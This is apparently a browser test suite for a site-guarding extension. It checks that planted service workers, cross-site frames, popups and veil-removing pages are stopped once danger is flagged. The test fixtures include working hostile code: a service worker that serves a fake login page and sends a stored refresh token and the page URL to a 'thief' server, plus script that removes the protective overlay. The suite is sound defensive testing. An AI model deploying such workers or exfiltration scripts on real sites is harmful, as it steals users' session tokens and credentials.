// What was left behind, or was open before the Danger: a planted service worker, frames and popups, pages that try to get above the
// veil. And the veil of an extension that is gone.
import { describe, test } from "./trial.mjs";
import assert from "node:assert/strict";
import { startLab } from "./lab.mjs";
import { assertOnlyProbes } from "./asserts.mjs";
import { KINDS, go, isAtGate, launch, leave, sleep, until, where } from "./browser.mjs";
import { answer, received, serve } from "./scenes.mjs";

const TOKEN = "secret-refresh-token";

/** A lab with a server of our own behind its TLS, somebody's other server, and a browser with the home guarded; ended after `scene`. */
async function within(kind, pages, scene, options = {}) {
    const lab = await startLab();
    // By its number it is a trustworthy origin: frames in it may have service workers, and pages of the home may frame it.
    const thief = await serve({ "/report": received });
    thief.base = `http://127.0.0.1:${thief.port}`;
    thief.reports = () => {
        const urls = thief.log.map(({ url }) => url).filter((url) => url.startsWith("/report?"));
        return urls.map((url) => decodeURIComponent(url.slice("/report?".length)));
    };
    const server = await serve(pages({ lab, thief }));
    const own = await launch(kind, lab, options);
    try {
        assert.equal((await own.guard()).light, "trusted");
        await lab.command({ do: "upstream", address: `127.0.0.1:${server.port}` });
        await scene({ lab, own, thief, server });
    } finally {
        await own.close();
        for (const one of [lab, thief, server]) one.stop();
    }
}

async function open(own, url) {
    const page = await own.browser.newPage();
    await go(page, url);
    await until(async () => (await where(page)) === url, { why: `arriving at ${url}` });
    await until(() => page.evaluate(() => !document.querySelector("doorlight-veil")), { why: "uncovered" });
    return page;
}

const danger = async (own, lab) => {
    await lab.present("A5");
    assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "danger");
};

const PLAIN = "<!doctype html><title>Home</title><link rel=icon href='data:,'>";

/** A page that plants a worker; with a token, as a home that one is logged in to. */
const planted = ({ thief }) => {
    const told = `encodeURIComponent(localStorage.token + " " + location.href)`;
    const report = `fetch("${thief.base}/report?" + ${told}, { mode: "no-cors", keepalive: true });`;
    const page = `${PLAIN}<script>${report}</script><h1>Log in</h1><input type=password>`;
    const worker = `
        addEventListener("install", () => skipWaiting());
        addEventListener("activate", (event) => event.waitUntil(clients.claim()));
        const page = () => new Response(${JSON.stringify(page).replaceAll("</", "<\\/")}, { headers: { "content-type": "text/html" } });
        addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(page()));`;
    return {
        "/plant": `${PLAIN}<script>
            localStorage.token = "${TOKEN}";
            navigator.serviceWorker?.register("/worker.js");
            navigator.serviceWorker?.ready.then(() => (document.body.dataset.worker = "ready"));
        </script><body>`,
        "/worker.js": (_, response) => answer(response, worker, { type: "text/javascript" }),
    };
};

for (const kind of KINDS) {
    describe(`what was planted, in ${kind}`, () => {
        // In Chromium the permission over cookies keeps workers from answering; without it the stop script ends their pages.
        for (const hasCookies of kind === "chromium" ? [true, false] : [true]) {
            const without = hasCookies ? "" : ", without the permission over cookies";
            test(`a planted service worker's page does not run while the gate is shut${without}`, (t) =>
                within(kind, planted, async ({ lab, own, thief }) => {
                    const isPlanted = (frame) => frame.evaluate(() => document.body.dataset.worker === "ready");
                    const page = await open(own, `${lab.home}/plant`);
                    await until(() => isPlanted(page), { why: "the worker" });
                    // Another site's page has the home's storage for itself, and so a worker of its own.
                    thief.pages["/plant"] = `${PLAIN}<body><iframe src="${lab.home}/plant"></iframe>`;
                    thief.pages["/embed"] = `${PLAIN}<body><iframe src="${lab.home}/embedded?secret"></iframe>`;
                    const embedding = await own.browser.newPage();
                    await go(embedding, `${thief.base}/plant`);
                    const framed = () => embedding.frames().find((frame) => frame.url().startsWith(lab.home));
                    await until(() => isPlanted(framed()), { why: "the worker in a frame" });
                    // While the gate is open the worker answers, and its pages run.
                    await go(page, `${lab.home}/auth/authorize?open-secret`);
                    await go(embedding, `${thief.base}/embed`);
                    const says = (what) => thief.reports().some((report) => report.startsWith(TOKEN) && report.includes(what));
                    await until(() => says("/auth/authorize?open-secret"), { why: "the control in a tab" });
                    await until(() => says("/embedded?secret"), { why: "the control in a frame" });
                    await leave(page);
                    await leave(embedding);
                    await danger(own, lab);
                    thief.log.length = 0;
                    await lab.clear();
                    for (const time of [1, 2, 3]) {
                        const tab = await own.browser.newPage();
                        await go(tab, `${lab.home}/auth/authorize?shut-secret=${time}`);
                        await until(() => isAtGate(tab), { why: `the gate, time ${time}` });
                        await go(tab, `${lab.home}/auth/authorize?again-secret=${time}`);
                        await until(() => isAtGate(tab), { why: `the gate again, time ${time}` });
                        await go(embedding, `${thief.base}/embed`);
                        await until(() => thief.log.some(({ url }) => url === "/embed"), { why: "the embedding page" });
                        await sleep(700);
                        await tab.close();
                    }
                    await sleep(500);
                    assert.deepEqual(thief.reports(), []);
                    assertOnlyProbes(await lab.requests());
                    t.diagnostic(`asked of the other server: ${[...new Set(thief.log.map(({ url }) => url))].join(" ")}`);
                }, { hasCookies }));
        }

        const ticking = ({ thief }) => {
            const tick = (who) => `setInterval(() => fetch("${thief.base}/report?${who}", { mode: "no-cors" }).catch(() => {}), 150);`;
            return {
                "/ticking": `${PLAIN}<h1>content of the home</h1><script>${tick("frame")}</script>`,
                "/opener": `${PLAIN}<body><h1>content of the home</h1>
                    <iframe srcdoc="<p>content of the home<script>${tick("srcdoc").replaceAll('"', "&quot;")}</script>"></iframe>
                    <button style="width:300px;height:100px">Open</button><script>
                    document.querySelector("button").onclick = () => {
                        const popup = open("about:blank");
                        popup.document.write("<p>content of the home<input type=password>");
                        popup.setInterval(() => fetch("${thief.base}/report?popup", { mode: "no-cors" }).catch(() => {}), 150);
                    };
                </script>`,
            };
        };
        test("at Danger frames in other sites' tabs and popups of open pages are left", () =>
            within(kind, ticking, async ({ lab, own, thief }) => {
                thief.pages["/"] = `${PLAIN}<body><h1>content of the thief</h1><iframe src="${lab.home}/ticking"></iframe>`;
                const stranger = await own.browser.newPage();
                await go(stranger, `${thief.base}/`);
                const opener = await open(own, `${lab.home}/opener`);
                let popup;
                opener.once("popup", (opened) => (popup = opened));
                await opener.bringToFront();
                await opener.click("button");
                await until(() => popup, { why: "the popup" });
                const kinds = ["frame", "srcdoc", "popup"];
                const ticks = (since) => [...new Set(thief.reports().slice(since))].sort();
                await until(() => ticks(0).length === kinds.length, { why: "each of them reports" });
                const text = (frame) => frame.evaluate(() => document.documentElement?.innerText ?? "");
                const all = async () => {
                    const frames = (await own.browser.pages()).flatMap((page) => page.frames());
                    const orNothing = (frame) => Promise.race([text(frame).catch(() => ""), sleep(2000).then(() => "")]);
                    const texts = await Promise.all(frames.map(orNothing));
                    return texts.filter((text) => text.includes("content of the home")).length;
                };
                assert.ok((await all()) >= 3, "the tab, the frame, and the popup");
                await danger(own, lab);
                await lab.clear();
                await until(async () => (await all()) === 0, { why: "every document left" });
                await until(() => isAtGate(opener), { why: "the tab at the gate" });
                await sleep(500);
                const since = thief.reports().length;
                await sleep(1000);
                assert.deepEqual(ticks(since), []);
                assert.equal(await stranger.evaluate(() => document.querySelector("h1").innerText), "content of the thief");
                // It stands at the gate, or is empty.
                const isEmpty = () => popup.evaluate(() => !document.querySelector("input"));
                await until(async () => (await isAtGate(popup)) || (await isEmpty()), { why: "the popup left" });
                assertOnlyProbes(await lab.requests());
            }));

        const FIELD = (name) => `<!doctype html><body style='margin:0'><input name=${name} style='width:300px;height:80px'>`;
        const layered = ({ thief }) => {
            thief.pages["/field"] = FIELD("cross");
            return {
                "/layers": `${PLAIN}<body style="margin:0"><input name="page" style="width:300px;height:80px;display:block"><script>
                    const dialog = document.createElement("dialog");
                    dialog.style.cssText =
                        "margin:0;padding:0;border:0;position:fixed;left:0;top:120px;background:rgb(255,0,0);width:600px;height:400px";
                    dialog.innerHTML = \`<input name="dialog" style="width:300px;height:80px;display:block">
                        <iframe name="srcdoc" srcdoc="${FIELD("srcdoc")}" style="border:0;width:300px;height:100px;display:block"></iframe>
                        <iframe name="cross" src="${thief.base}/field" style="border:0;width:300px;height:100px;display:block"></iframe>\`;
                    document.body.append(dialog);
                    // Shown again whenever it is not, or without end closed, opened again, and followed by others.
                    globalThis.rise = (isWild) => {
                        dialog.showModal();
                        globalThis.beats = 0;
                        globalThis.rising = setInterval(() => {
                            beats++;
                            if (isWild && beats % 3 === 0) dialog.close();
                            if (!dialog.open) dialog.showModal();
                            if (!isWild) return;
                            const extra = document.createElement("dialog");
                            extra.innerHTML = "<input name=extra><iframe srcdoc='<input>'></iframe>";
                            document.body.append(extra);
                            extra.showModal();
                            setTimeout(() => extra.remove(), 30);
                        }, 50);
                    };
                </script>`,
            };
        };
        const FIELDS = ["page", "dialog", "srcdoc", "cross"];
        /** Types into each field, with the mouse and by focus, and says what they hold. */
        const typed = async (page, text) => {
            await page.bringToFront();
            const held = {};
            for (const name of FIELDS) {
                const frame = await until(
                    async () => {
                        for (const one of page.frames()) {
                            const has = (name) => Boolean(document.querySelector(`input[name=${name}]`));
                            // One that has gone throws at once.
                            if (await Promise.resolve(name).then((name) => one.evaluate(has, name)).catch(() => false)) return one;
                        }
                    },
                    { why: `a frame with ${name}` },
                );
                const element = ["page", "dialog"].includes(name) ? `input[name=${name}]` : `iframe[name=${name}]`;
                const [x, y] = await page.evaluate((element) => {
                    const { x, y } = document.querySelector(element).getBoundingClientRect();
                    return [x + 60, y + 40];
                }, element);
                await page.mouse.click(x, y);
                await page.keyboard.type(text);
                await frame.evaluate((name) => document.querySelector(`input[name=${name}]`).focus(), name);
                await page.keyboard.type(text);
                held[name] = await frame.evaluate((name) => document.querySelector(`input[name=${name}]`).value, name);
            }
            return held;
        };
        /** How much of what the tab shows, in percent, is of the dialog's red. */
        const red = async (page) => {
            const picture = await page.screenshot({ encoding: "base64" });
            return page.evaluate(async (picture) => {
                const bytes = Uint8Array.from(atob(picture), (letter) => letter.charCodeAt(0));
                const image = await createImageBitmap(new Blob([bytes], { type: "image/png" }));
                const canvas = new OffscreenCanvas(image.width, image.height).getContext("2d");
                canvas.drawImage(image, 0, 0);
                const { data } = canvas.getImageData(0, 0, image.width, image.height);
                let count = 0;
                for (let n = 0; n < data.length; n += 4) if (data[n] > 250 && data[n + 1] < 5 && data[n + 2] < 5) count++;
                return (100 * count) / (data.length / 4);
            }, picture);
        };
        const isCovered = (page) => page.evaluate(() => Boolean(document.querySelector("doorlight-veil")));
        const cover = async (lab, page) => {
            // The background is kept from answering by a home that does not answer it.
            await lab.command({ do: "hang" });
            // Every window hears of it.
            const wake = () => void window.dispatchEvent(new Event("online"));
            await Promise.all(page.frames().map((frame) => frame.evaluate(wake)));
            await until(() => isCovered(page), { why: "the veil" });
        };

        for (const isWild of [false, true]) {
            const how = isWild ? "that closes and opens itself and others without end" : "that is opened again";
            test(`the veil stays above a dialog with frames ${how}, and nothing can be typed`, () =>
                within(kind, layered, async ({ lab, own }) => {
                    const page = await open(own, `${lab.home}/layers`);
                    await until(() => page.frames().length === 3, { why: "the frames" });
                    await page.evaluate(() => document.querySelector("dialog").show());
                    // The first letters may be typed before a frame of another process has the focus.
                    await typed(page, "first").then((held) => FIELDS.forEach((name) => assert.match(held[name], /^(irst|rst|st|t)?(first)+$/, name)));
                    for (const frame of page.frames()) {
                        await frame.evaluate(() => document.querySelectorAll("input").forEach((one) => (one.value = "")));
                    }
                    await page.evaluate(() => document.querySelector("dialog").close());
                    await cover(lab, page);
                    await page.evaluate((isWild) => globalThis.rise(isWild), isWild);
                    await until(
                        () => page.evaluate(() => document.querySelector("doorlight-veil").matches(":popover-open")),
                        { why: "the veil above" },
                    );
                    const beats = await page.evaluate(() => globalThis.beats);
                    const held = await typed(page, "secret");
                    assert.deepEqual(held, Object.fromEntries(FIELDS.map((name) => [name, ""])));
                    // In the wild one a frame of it may be seen now and then.
                    if (!isWild) await until(async () => (await red(page)) === 0, { why: "nothing of the dialog to see" });
                    await until(() => page.evaluate((beats) => globalThis.beats > beats + 5, beats), { why: "the page is alive" });
                    assert.ok(await isCovered(page));
                    await lab.command({ do: "unhang" });
                    await until(async () => !(await isCovered(page)), { within: 60_000, why: "the veil lifted" });
                    await page.evaluate(() => {
                        clearInterval(globalThis.rising);
                        const [dialog, ...others] = document.querySelectorAll("dialog");
                        for (const one of others) one.remove();
                        dialog.close();
                    });
                    const all = () => [...document.querySelectorAll("input, iframe, dialog")].map((one) => one.disabled || one.inert);
                    assert.ok(!(await page.evaluate(all)).includes(true), "nothing is held");
                    await page.evaluate(() => document.querySelector("dialog").show());
                    const free = await typed(page, "free");
                    for (const name of FIELDS) assert.match(free[name], /^(free)+$/, name);
                    assert.ok((await red(page)) > 1, "the dialog is seen");
                }));
        }

        test("a page that takes the veil out of the tree is not frozen by it, and nothing can be typed", () =>
            within(kind, layered, async ({ lab, own }) => {
                const page = await open(own, `${lab.home}/layers`);
                await page.evaluate(() => {
                    globalThis.removed = 0;
                    globalThis.alive = 0;
                    setInterval(() => alive++, 20);
                    // Bounded, so that a test that fails ends.
                    new MutationObserver(() => {
                        const veil = document.querySelector("doorlight-veil");
                        if (veil && removed++ < 20_000) veil.remove();
                    }).observe(document, { childList: true, subtree: true });
                });
                await lab.command({ do: "hang" });
                await page.evaluate(() => void window.dispatchEvent(new Event("online")));
                await until(() => page.evaluate(() => globalThis.removed > 0), { why: "the page takes it out" });
                const alive = await page.evaluate(() => globalThis.alive);
                await until(() => page.evaluate((alive) => globalThis.alive > alive + 10, alive), { why: "the page is alive" });
                assert.ok((await page.evaluate(() => globalThis.removed)) < 20_000, "they do not wrestle without end in one turn");
                await page.bringToFront();
                await page.mouse.click(60, 40);
                await page.keyboard.type("secret");
                assert.equal(await page.evaluate(() => document.querySelector("input[name=page]").value), "");
                await lab.command({ do: "unhang" });
                await until(
                    () => page.evaluate(() => !document.querySelector("input[name=page]").disabled),
                    { within: 60_000, why: "free" },
                );
            }));

        const held = `<input name="page"><button>x</button><dialog open><iframe srcdoc="x"></iframe></dialog>`;
        const fielded = () => ({ "/field": `${PLAIN}<body>${held}` });
        const isFree = (page) =>
            page.evaluate(() => {
                const held = [...document.querySelectorAll("input, button, dialog, iframe")].filter((one) => one.disabled || one.inert);
                return !document.querySelector("doorlight-veil") && document.querySelector("input") && held.length === 0;
            });

        test("an address that is no longer guarded while its tab is open is free", () =>
            within(kind, fielded, async ({ lab, own, thief }) => {
                const page = await open(own, `${lab.home}/field`);
                await page.evaluate(() => (document.body.dataset.mark = "kept"));
                // While it is guarded the veil comes down, and lifts.
                await cover(lab, page);
                await lab.command({ do: "unhang" });
                await until(() => isFree(page), { within: 60_000, why: "free again" });
                await own.ask({ ask: "unguard", address: lab.address });
                await lab.command({ do: "hang" });
                await page.evaluate((url) => {
                    const covered = () => document.querySelector("doorlight-veil") && fetch(`${url}/report?covered`, { mode: "no-cors" });
                    setTimeout(() => setInterval(covered, 50), 500);
                    window.dispatchEvent(new Event("online"));
                }, thief.base);
                await sleep(5000);
                await lab.command({ do: "unhang" });
                assert.equal(await where(page), `${lab.home}/field`);
                assert.equal(await page.evaluate(() => document.body.dataset.mark), "kept");
                assert.ok(await isFree(page));
                assert.deepEqual(thief.reports(), []);
            }));

        if (kind !== "chromium") return;
        for (const [how, end] of [
            ["removed", (own) => own.browser.uninstallExtension(new URL(own.base).host)],
            ["loaded anew", (own) => own.asker.evaluate(() => chrome.runtime.reload()).catch(() => {})],
        ]) {
            for (const isBefore of [true, false]) {
                test(`a page ${isBefore ? "under the veil" : "that comes back online"} is free after the extension was ${how}`, () =>
                    within(kind, fielded, async ({ lab, own }) => {
                        const page = await open(own, `${lab.home}/field`);
                        assert.ok(await isFree(page));
                        if (isBefore) await cover(lab, page);
                        await end(own);
                        await lab.command({ do: "unhang" });
                        if (!isBefore) await page.evaluate(() => void window.dispatchEvent(new Event("online"))).catch(() => {});
                        await until(
                            async () => (await where(page)) === `${lab.home}/field` && (await isFree(page)),
                            { within: 40_000, why: "free" },
                        );
                        await page.evaluate(() => void window.dispatchEvent(new Event("online")));
                        await until(
                            async () => (await where(page)) === `${lab.home}/field` && (await isFree(page)),
                            { within: 40_000, why: "free again" },
                        );
                        await page.bringToFront();
                        await page.click("input");
                        await page.keyboard.type("typed");
                        assert.equal(await page.evaluate(() => document.querySelector("input").value), "typed");
                    }));
            }
        }
    });
}
